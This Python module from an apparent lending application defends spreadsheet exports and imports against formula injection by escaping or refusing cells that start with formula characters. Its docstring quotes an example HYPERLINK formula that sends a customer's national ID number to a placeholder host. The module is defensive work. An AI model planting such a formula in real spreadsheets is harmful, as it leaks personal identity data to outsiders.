"""The one place where text meets a spreadsheet cell: exports neutralise formulas, imports refuse them.

A customer named ``=HYPERLINK("http://x/?nik="&B2,"klik")`` is, to Excel or LibreOffice, a formula that sends
the NIK in column B elsewhere when clicked (OWASP "CSV / formula injection").  Angsur writes spreadsheets in
several places -- report workbooks and CSV (:mod:`reports.xlsx`), the customers export and the import error
reports (:mod:`models.customers.customer_import`, :mod:`models.loans.loan_import`) -- and every text cell of every one of
them goes through :func:`safe_text` / :func:`sheet_value` here, so a new export cannot forget the guard.

On the way in, :func:`formula_problem` looks at a cell *after trimming* (a leading space, tab or carriage
return is how a payload hides from a naive ``startswith("=")``) and the importers refuse the row, naming the
column.

The module lives in ``models/`` (not ``reports/``) because the customers export and the importers are
domain functions; ``reports`` imports it, never the other way round.
"""
from __future__ import annotations

import datetime as _dt
import re
from decimal import Decimal
from typing import Any

from models.core.texts import _

#: Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP "CSV injection"):
#: ``= + - @`` start a formula; TAB and CR are stripped by some importers, exposing what follows.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Control characters that are illegal in XML 1.0 (openpyxl refuses them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

#: What may follow a leading ``+`` or ``-`` in an imported cell without being a formula: a phone number
#: (``+62 812-3456-7890``), a negative amount (``-150000``) or the office's "nothing" dash (``-``).
_SIGNED_PLAIN = re.compile(r"^[+-][0-9 .,()\-]*$")


def safe_text(value: object) -> str:
    """Text that a spreadsheet shows as text and never evaluates.

    A value starting with ``= + - @``, TAB or CR gets a leading apostrophe, the mark Excel itself uses for
    "this is text"; control characters illegal in XML are dropped first (so they cannot hide the start).

    Args:
        value: anything; ``None`` becomes ``""``.
    Returns:
        The neutralised string.
    """
    if value is None:
        return ""
    text = value if value.__class__ is str else str(value)
    if not text.isprintable():  # fast path: printable text has no control character to drop (100.000-row exports)
        text = _ILLEGAL_XML.sub("", text)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def sheet_value(value: Any) -> Any:
    """The value to put in an openpyxl cell: text through :func:`safe_text`, numbers and dates unchanged.

    openpyxl turns any ``str`` starting with ``=`` into a formula cell (``<f>``); this is the one function every
    Angsur writer calls before assigning a cell.
    """
    if value is None or isinstance(value, (bool, int, float, Decimal, _dt.date, _dt.datetime, _dt.time)):
        return value
    return safe_text(value)


def neutralise_sheet(ws) -> int:
    """Turn every formula cell of a (non-read-only) worksheet into its text, neutralised.

    Used on the office's own workbook before an import error report is written back: the file came from
    outside and may carry formulas Angsur would otherwise hand back as its own output.

    Returns:
        How many cells were changed.
    """
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)):
                text = cell.value if isinstance(cell.value, str) else str(cell.value)
                cell.value = safe_text(text)
                cell.data_type = "s"
                changed += 1
    return changed


def formula_problem(value: Any) -> str | None:
    """Why an imported cell is refused, or ``None``.

    The check runs on the text *after trimming* whitespace (spaces, tabs, CR, LF), so ``" =1+1"`` and
    ``"\\t=HYPERLINK(…)"`` are caught, and so is our own export's ``"'=…"`` coming back.  ``=`` and ``@`` are always refused; ``+`` and ``-`` only when what
    follows is more than a number (``+62 812…`` and ``-`` stay accepted).

    Returns:
        A message in Indonesian, for a :class:`~models.core.errors.FieldError` naming the column.
    """
    if not isinstance(value, str):
        return None
    text = value.strip(" \t\r\n\x0b\x0c")
    if text.startswith("'"):  # our own neutralised export coming back: the payload is still behind the mark
        text = text[1:].strip(" \t\r\n\x0b\x0c")
    if not text:
        return None
    if text[0] in "=@" or (text[0] in "+-" and not _SIGNED_PLAIN.match(text)):
        return _("isi sel diawali '{mark}' dan akan dibaca spreadsheet sebagai rumus; hapus tanda itu atau "
                 "awali dengan huruf", mark=text[0])
    return None


__all__ = ["FORMULA_START", "safe_text", "sheet_value", "neutralise_sheet", "formula_problem"]
